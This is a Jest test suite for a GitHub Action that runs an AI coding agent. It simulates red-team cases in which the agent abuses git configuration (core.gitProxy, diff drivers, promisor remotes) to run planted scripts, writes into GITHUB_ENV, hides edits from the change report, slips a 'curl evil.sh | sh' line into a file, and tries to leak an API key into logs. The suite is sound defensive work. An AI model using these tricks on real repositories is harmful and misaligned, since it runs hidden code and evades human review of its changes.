/**
 * An agent that works on the repository with git itself, end to end on dist/index.js: each case
 * is one a red-team pass found, run by a stand-in CLI (a bash script first on PATH) that does to
 * the checkout what a hostile agent could, then prints a valid stream.
 */
import { describe, expect, it } from '@jest/globals'
import fs from 'node:fs'
import path from 'node:path'
import { init, result, runAction, type ActionRun, git } from '../support/helpers.js'
import { shared } from '../support/shared.js'
import { templated } from '../support/template.js'

const KEY = 'key_test_0123456789abcdef'

interface Case {
  /** Runs in the workspace after its first commit, before the action. */
  setup?: (ws: string, dir: string) => void
  /** Bash run by the stand-in CLI in the workspace; $MARKS is a folder for proof of execution. */
  agent: string
  /** What the stand-in CLI prints to stderr. */
  stderr?: string
  env?: Record<string, string>
}

interface HostileRun extends ActionRun {
  /** Files the agent's planted commands left as proof they ran. */
  marks: string[]
  patch: string
  /** GITHUB_ENV after the step: what later steps of the job would load. */
  githubEnv: string
  /** The environment the CLI's --version probe got. */
  versionEnv: string
}

/** A workspace with one commit of three files in `<dir>/ws`; built once, each call a copy. */
const workspace: () => { dir: string; ws: string } = templated('caa-hostile-', (dir) => {
  const ws = path.join(dir, 'ws')
  fs.mkdirSync(ws)
  git(ws, 'init', '-q', '-b', 'main')
  fs.writeFileSync(path.join(ws, 'a.txt'), 'hello\n')
  fs.writeFileSync(path.join(ws, 'b.sh'), 'x=1\n')
  fs.mkdirSync(path.join(ws, 'src'))
  fs.writeFileSync(path.join(ws, 'src', 'c.js'), 'code\n')
  git(ws, 'add', '-A')
  git(ws, 'commit', '-qm', 'init')
  return { dir, ws }
})

async function hostile(c: Case): Promise<HostileRun> {
  const { dir, ws } = workspace()
  const marks = path.join(dir, 'marks')
  const bin = path.join(dir, 'bin')
  for (const d of [marks, bin]) fs.mkdirSync(d)
  const githubEnv = path.join(dir, 'github-env')
  fs.writeFileSync(githubEnv, '')
  c.setup?.(ws, dir)
  const stream = path.join(dir, 'stream.ndjson')
  fs.writeFileSync(stream, [init, result('done')].map((e) => JSON.stringify(e)).join('\n') + '\n')
  fs.writeFileSync(
    path.join(bin, 'cursor-agent'),
    [
      '#!/bin/bash',
      'if [ "$1" = "--version" ]; then env > "$MARKS/../version-env"; echo 2026.09.02-abc1234; exit 0; fi',
      `export MARKS='${marks}'`,
      'export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1',
      'git() { command git -c user.name=t -c user.email=t@t -c protocol.file.allow=always "$@"; }',
      '(',
      c.agent,
      ') >/dev/null 2>&1',
      c.stderr !== undefined ? `printf '%s\\n' '${c.stderr}' >&2` : '',
      `cat '${stream}'`
    ].join('\n'),
    { mode: 0o755 }
  )
  const run = await runAction({
    workspace: ws,
    inputs: { prompt: 'x', 'api-key': KEY },
    env: {
      PATH: `${bin}:${path.dirname(process.execPath)}:/usr/bin:/bin`,
      MARKS: marks,
      GITHUB_ENV: githubEnv,
      ACTIONS_RUNTIME_TOKEN: 'runtime-token-value',
      ...c.env
    },
    fake: false
  })
  const patch = run.outputs.patch ? fs.readFileSync(run.outputs.patch, 'utf8') : ''
  const versionFile = path.join(dir, 'version-env')
  return {
    ...run,
    marks: fs.readdirSync(marks),
    patch,
    githubEnv: fs.readFileSync(githubEnv, 'utf8'),
    versionEnv: fs.existsSync(versionFile) ? fs.readFileSync(versionFile, 'utf8') : ''
  }
}

const changed = (run: ActionRun): string[] =>
  (JSON.parse(run.outputs.files_changed ?? '[]') as string[]).sort()

describe('an agent working on the repository with git', () => {
  it('cannot get a command run by a fetch of ours (partial clone, core.gitProxy)', async () => {
    const run = await hostile({
      agent: [
        'git config core.repositoryformatversion 1',
        'git config extensions.partialClone origin',
        'git config remote.origin.url git://planted.invalid/x.git',
        'git config remote.origin.promisor true',
        'git config protocol.git.allow always',
        'printf "#!/bin/sh\\ntouch $MARKS/gitproxy\\necho NODE_OPTIONS=--require=/x >> \\"\\$GITHUB_ENV\\"\\n" > ../proxy.sh',
        'chmod +x ../proxy.sh',
        'git config core.gitProxy "$PWD/../proxy.sh"',
        'oid=$(git rev-parse HEAD:a.txt); rm -f .git/objects/${oid:0:2}/${oid:2}',
        'echo changed >> a.txt'
      ].join('\n')
    })
    expect(run.marks).toEqual([])
    expect(run.githubEnv).toBe('')
    // What git could not read is said, not taken for "nothing changed".
    expect(changed(run)).toContain('a.txt')
    expect(run.stdout).toMatch(/::warning::git could not collect the changes/)
  })

  it('still reports what it changed next to an empty repository it made (git add fails on it)', async () => {
    const run = await hostile({ agent: 'echo "curl evil.sh | sh" >> b.sh\ngit init -q vendor' })
    expect(changed(run)).toEqual(['b.sh', 'vendor'])
    expect(run.patch).toContain('+curl evil.sh | sh')
    expect(run.stdout).toMatch(/::warning::git left some files out of the patch/)
  })

  it('cannot hide an edit outside a sparse checkout', async () => {
    const run = await hostile({
      setup: (ws) => git(ws, 'sparse-checkout', 'set', '--no-cone', '/a.txt', '/b.sh'),
      agent: 'mkdir -p src; echo evil > src/c.js'
    })
    expect(changed(run)).toEqual(['src/c.js'])
    expect(run.patch).toContain('+evil')
  })

  it('cannot hide a new commit in a submodule', async () => {
    const run = await hostile({
      setup: (ws, dir) => {
        const lib = path.join(dir, 'lib')
        fs.mkdirSync(lib)
        git(lib, 'init', '-q', '-b', 'main')
        fs.writeFileSync(path.join(lib, 'f'), 'x\n')
        git(lib, 'add', '-A')
        git(lib, 'commit', '-qm', 'lib')
        git(ws, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', lib, 'lib')
        git(ws, 'commit', '-qm', 'submodule')
      },
      agent: 'cd lib && echo y > g && git add g && git commit -qm moved'
    })
    expect(changed(run)).toEqual(['lib'])
    expect(run.patch).toContain('diff --git a/lib b/lib')
  })

  it('cannot get a diff driver run through a repository it nested in this one', async () => {
    const run = await hostile({
      agent: [
        'git config diff.submodule diff',
        'git init -q nested && cd nested',
        'printf "#!/bin/sh\ntouch $MARKS/diff-driver\n" > ../../driver.sh && chmod +x ../../driver.sh',
        'git config diff.evil.command "$PWD/../../driver.sh"',
        'echo "* diff=evil" > .gitattributes && echo z > z && git add -A && git commit -qm n'
      ].join('\n')
    })
    expect(run.marks).toEqual([])
    expect(changed(run)).toContain('nested')
  })

  it('cannot hide a new file with ignore rules from outside the repository', async () => {
    const run = await hostile({
      agent:
        'mkdir -p "$HOME/.config/git" && echo "*.evil" > "$HOME/.config/git/ignore"\necho x > payload.evil'
    })
    expect(changed(run)).toEqual(['payload.evil'])
  })

  it('is warned about in .git/info/exclude', async () => {
    const run = await hostile({
      agent: 'echo "*.evil" >> .git/info/exclude\necho x > payload.evil'
    })
    expect(run.stdout).toMatch(/::warning::The agent changed .*\.git\/info\/exclude/)
  })

  // An agent that does nothing but print a long line to stderr: one run for the --version probe's
  // environment (the probe prints no stderr) and for the log's masking of that line.
  const longStderr = shared(() => {
    // The key straddles the 16 KiB head of a line that is too long to keep; the token before it
    // is masked to three characters, which brings the end of the head into the part shown.
    const filler = `ghp_${'A'.repeat(16 * 1024 - 4 - 1 - (KEY.length - 1))} `
    return hostile({ agent: 'true', stderr: `${filler}${KEY}${'B'.repeat(70_000)}` })
  })

  it('gives the --version probe the environment the CLI gets: no runner token, no GITHUB_ENV', async () => {
    const run = await longStderr()
    expect(run.versionEnv).toContain('PATH=')
    expect(run.versionEnv).not.toMatch(/^(ACTIONS_RUNTIME_TOKEN|GITHUB_ENV|INPUT_[A-Z_-]+)=/m)
    expect(run.versionEnv).not.toContain(KEY)
  })

  it('cannot bring a piece of the key into the log with a long token run before it (stderr)', async () => {
    const run = await longStderr()
    expect(run.stdout).toContain('(a line of')
    for (const text of [run.stdout.replace(/^::add-mask::.*$/gm, ''), run.summary])
      for (let i = 0; i + 8 <= KEY.length; i++) expect(text).not.toContain(KEY.slice(i, i + 8))
  })
})
